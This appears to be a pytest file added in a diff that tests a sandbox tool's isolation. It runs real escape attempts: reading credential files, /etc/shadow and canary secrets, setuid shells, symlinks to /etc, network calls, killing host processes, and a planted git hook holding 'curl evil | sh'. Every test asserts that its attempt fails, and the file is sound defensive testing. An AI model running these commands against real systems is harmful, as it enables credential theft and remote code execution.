@@ -1,0 +1,255 @@
+"""The escape suite: one real attack per security invariant of the architecture.
+
+Each test attempts the attack for real inside `sandbox run` and then checks, from the host,
+that it had no effect. A test whose attack succeeds fails.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import socket
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import SANDBOX_BIN, Cli
+
+
+def run(cli: Cli, ws: Path, script: str, *extra: str) -> subprocess.CompletedProcess[bytes]:
+    return cli("run", "-C", str(ws), *extra, "--", "sh", "-c", script)
+
+
+def run_json(cli: Cli, ws: Path, script: str, *extra: str) -> dict[str, object]:
+    r = cli("run", "-C", str(ws), "--json", *extra, "--", "sh", "-c", script)
+    assert r.stdout, r.stderr
+    data: dict[str, object] = json.loads(r.stdout)
+    return data
+
+
+@pytest.fixture
+def canary(base_dir: Path) -> Iterator[Path]:
+    """A secret file in a host home directory the sandbox must never see."""
+    home = Path("/root") if os.geteuid() == 0 else Path.home()
+    p = home / f".sandbox-canary-{os.getpid()}"
+    p.write_text("TOP-SECRET-CANARY\n")
+    yield p
+    p.unlink(missing_ok=True)
+
+
+def test_writes_outside_workspace_never_reach_host(cli: Cli, workspace: Path,
+                                                  base_dir: Path) -> None:
+    target = base_dir / "outside.txt"
+    target.write_text("original\n")
+    script = (f"echo pwned > {target}; echo pwned >> /etc/hostname; "
+              "echo pwned > /usr/bin/sandbox-pwned; "
+              f"echo pwned > {workspace}/README.md; echo pwned > /workspace/README.md; true")
+    r = run(cli, workspace, script, "--level", "2")
+    assert r.returncode == 0
+    assert target.read_text() == "original\n"
+    assert not Path("/usr/bin/sandbox-pwned").exists()
+    assert b"pwned" not in Path("/etc/hostname").read_bytes()
+    assert (workspace / "README.md").read_text() == "hello\n"  # only in the pending upper
+
+
+def test_host_home_and_keys_are_not_visible(cli: Cli, workspace: Path, canary: Path) -> None:
+    r = run(cli, workspace, f"cat {canary}; ls -a {canary.parent}; ls /home; "
+            "cat /etc/shadow; true")
+    assert b"TOP-SECRET-CANARY" not in r.stdout + r.stderr
+    assert canary.name.encode() not in r.stdout
+    assert b"root:" not in r.stdout  # no shadow
+
+
+def test_hidden_workspace_files_are_invisible(cli: Cli, workspace: Path) -> None:
+    secrets = {".env": "DB_PASSWORD=hunter2\n", "sub/.env.local": "TOKEN=abc\n",
+               "deploy.pem": "-----BEGIN-----\n", ".ssh/id_rsa": "PRIVATE\n",
+               "id_rsa": "PRIVATE2\n", ".aws/credentials": "AKIA\n", ".netrc": "machine x\n"}
+    for rel, content in secrets.items():
+        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
+        (workspace / rel).write_text(content)
+    r = run(cli, workspace, "ls -aR; cat .env sub/.env.local deploy.pem .ssh/id_rsa id_rsa "
+            ".aws/credentials .netrc; grep -r . . ; true")
+    out = r.stdout + r.stderr
+    for content in secrets.values():
+        assert content.strip().encode() not in out, content
+    assert b"README.md" in r.stdout  # the rest of the workspace is there
+
+
+def test_overwriting_a_hidden_file_is_refused(cli: Cli, workspace: Path) -> None:
+    (workspace / ".env").write_text("REAL=1\n")
+    out = run_json(cli, workspace, "echo FAKE=1 > .env", "--level", "4")
+    assert (workspace / ".env").read_text() == "REAL=1\n"
+    assert any(x["path"] == ".env" for x in out["decision"]["refused"])  # type: ignore[index]
+
+
+def test_host_processes_invisible_and_unsignalable(cli: Cli, workspace: Path) -> None:
+    victim = subprocess.Popen(["sleep", "300"])
+    try:
+        r = run(cli, workspace, f"ls /proc | grep -x {victim.pid}; kill -9 {victim.pid}; "
+                "ps -e -o pid= | wc -l")
+        assert str(victim.pid).encode() + b"\n" not in r.stdout.split(b"\n", 1)[0] + b"\n"
+        time.sleep(0.2)
+        assert victim.poll() is None, "the sandbox killed a host process"
+        nprocs = int(r.stdout.strip().splitlines()[-1])
+        assert nprocs < 10  # only the sandbox's own processes
+    finally:
+        victim.kill()
+        victim.wait()
+
+
+def _procs_with(marker: str) -> list[int]:
+    out = []
+    for d in Path("/proc").iterdir():
+        if d.name.isdigit():
+            try:
+                if marker.encode() in (d / "cmdline").read_bytes():
+                    out.append(int(d.name))
+            except OSError:
+                continue
+    return out
+
+
+def test_nothing_survives_the_run(cli: Cli, workspace: Path) -> None:
+    marker = f"sbxsurvivor{os.getpid()}"
+    script = (f"(sleep 600 {marker} &) ; setsid sh -c 'sleep 600 {marker}' & "
+              f"nohup sh -c 'trap \"\" HUP TERM; exec -a {marker} sleep 600' >/dev/null 2>&1 & "
+              "sleep 0.2; exit 0")
+    mounts_before = Path("/proc/self/mounts").read_text().count("overlay")
+    r = run(cli, workspace, script)
+    assert r.returncode == 0, r.stderr
+    time.sleep(0.3)
+    survivors = _procs_with(marker)
+    for pid in survivors:
+        os.kill(pid, signal.SIGKILL)
+    assert survivors == [], "processes outlived the run"
+    assert Path("/proc/self/mounts").read_text().count("overlay") == mounts_before
+    leftovers = [p for p in Path("/tmp").glob("nsjail.*") if p.is_dir() and any(p.iterdir())]
+    assert leftovers == []
+
+
+def test_root_inside_is_not_root_outside(cli: Cli, workspace: Path) -> None:
+    r = run(cli, workspace, "id -u; cat /proc/self/uid_map; grep -E "
+            "'^(NoNewPrivs|CapEff|CapBnd|Seccomp):' /proc/self/status; echo x > made-inside")
+    lines = r.stdout.decode().split("\n")
+    assert lines[0] == "0"
+    inside, outside, _ = lines[1].split()
+    assert inside == "0" and outside != "0"
+    status = dict(ln.split(":\t") for ln in lines[2:] if ":\t" in ln)
+    assert status["NoNewPrivs"] == "1"
+    assert int(status["CapEff"], 16) == 0 and int(status["CapBnd"], 16) == 0
+    assert status["Seccomp"] == "2"
+    upper_files = list((cli.home / "sessions").glob("*/upper/made-inside"))
+    assert upper_files and all(p.stat().st_uid != 0 or os.geteuid() != 0 for p in upper_files)
+
+
+def test_privilege_tricks_fail(cli: Cli, workspace: Path) -> None:
+    r = run(cli, workspace, "unshare -r true && echo UNSHARE-OK; "
+            "mount -t tmpfs none /tmp && echo MOUNT-OK; "
+            "mknod dev c 1 3 && echo MKNOD-OK; "
+            "chroot / true && echo CHROOT-OK; true")
+    for bad in (b"UNSHARE-OK", b"MOUNT-OK", b"MKNOD-OK", b"CHROOT-OK"):
+        assert bad not in r.stdout, r.stdout
+
+
+def test_state_dir_and_docker_socket_not_mounted(cli: Cli, workspace: Path,
+                                                 base_dir: Path) -> None:
+    sock_path = base_dir / "docker.sock"
+    srv = socket.socket(socket.AF_UNIX)
+    srv.bind(str(sock_path))
+    srv.listen(1)
+    try:
+        r = run(cli, workspace, f"ls {cli.home} {sock_path} /run /var/run/docker.sock "
+                "/run/docker.sock 2>&1; find / -name 'state.db' -o -name 'audit.log' "
+                "2>/dev/null; true")
+        assert b"state.db" not in r.stdout and b"audit.log" not in r.stdout
+        assert b"No such file" in r.stdout
+        assert b"docker.sock\n" not in r.stdout
+    finally:
+        srv.close()
+
+
+def test_no_network_not_even_host_loopback(cli: Cli, workspace: Path) -> None:
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    port = srv.getsockname()[1]
+    hits: list[bool] = []
+
+    def accept() -> None:
+        srv.settimeout(5)
+        try:
+            conn, _ = srv.accept()
+            hits.append(True)
+            conn.close()
+        except OSError:
+            pass
+
+    t = threading.Thread(target=accept)
+    t.start()
+    script = ("python3 - <<'EOF'\nimport socket\n"
+              "for addr in [('127.0.0.1', %d), ('1.1.1.1', 53), ('10.0.0.1', 80)]:\n"
+              "    try:\n        socket.create_connection(addr, timeout=1); print('CONNECTED', addr)\n"
+              "    except OSError as e: print('blocked', addr, e)\n"
+              "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+              "try:\n    s.sendto(b'x', ('8.8.8.8', 53)); print('UDP-SENT')\n"
+              "except OSError as e: print('udp blocked', e)\nEOF\n") % port
+    r = run(cli, workspace, script)
+    srv.close()
+    t.join()
+    assert b"CONNECTED" not in r.stdout and b"UDP-SENT" not in r.stdout, r.stdout
+    assert hits == []
+
+
+@pytest.mark.parametrize("attack", [
+    "cp /bin/sh suid-sh; chmod u+s suid-sh",
+    "cp /bin/sh sgid-sh; chmod g+s sgid-sh",
+    "ln -s /etc/passwd passwd-link",
+    "ln -s ../../../../etc etc-link",
+    "mkfifo a-fifo",
+    "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.bind('a-socket')\"",
+])
+def test_forbidden_changes_never_commit(cli: Cli, workspace: Path, attack: str) -> None:
+    out = run_json(cli, workspace, attack, "--level", "4")
+    refused = out["decision"]["refused"]  # type: ignore[index]
+    assert refused, out
+    names = {p.name for p in workspace.iterdir()}
+    assert not names & {"suid-sh", "sgid-sh", "passwd-link", "etc-link", "a-fifo", "a-socket"}
+    path = refused[0]["path"]
+    r = cli("approve", "last", path)
+    assert r.returncode != 0 and b"forbid" in r.stderr.lower() + r.stdout.lower() or \
+        b"refused" in r.stderr + r.stdout
+    assert not names & {p.name for p in workspace.iterdir()} - {"README.md", "src", "old.txt"}
+
+
+def test_planting_git_hooks_needs_a_person(cli: Cli, workspace: Path) -> None:
+    (workspace / ".git" / "hooks").mkdir(parents=True)
+    run(cli, workspace, "echo 'curl evil | sh' > .git/hooks/post-checkout; "
+        "chmod +x .git/hooks/post-checkout", "--level", "3")
+    assert not (workspace / ".git/hooks/post-checkout").exists()
+    r = cli("approve", "last")
+    assert r.returncode == 2 and b"--include-protected" in r.stderr
+    assert not (workspace / ".git/hooks/post-checkout").exists()
+
+
+def test_crash_mid_commit_is_recovered(cli: Cli, workspace: Path) -> None:
+    n = 60
+    script = "; ".join(f"echo changed-{i} > f{i}.txt" for i in range(n))
+    for i in range(n):
+        (workspace / f"f{i}.txt").write_text(f"orig-{i}\n")
+    cli("run", "-C", str(workspace), "--", "sh", "-c", script, check=True)
+    env = cli.env({"SANDBOX_COMMIT_STEP_DELAY": "0.01"})
+    proc = subprocess.Popen([str(SANDBOX_BIN), "approve", "last"], env=env)
+    time.sleep(0.4)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+    cli("ls", check=True)  # any invocation finishes or rolls back the interrupted commit
+    contents = {(workspace / f"f{i}.txt").read_text() for i in range(n)}
+    before = {f"orig-{i}\n" for i in range(n)}
+    after = {f"changed-{i}\n" for i in range(n)}
+    assert contents in (before, after), "workspace half-applied after a crash"
+    assert not [p for p in workspace.rglob("*") if ".sandbox" in p.name]
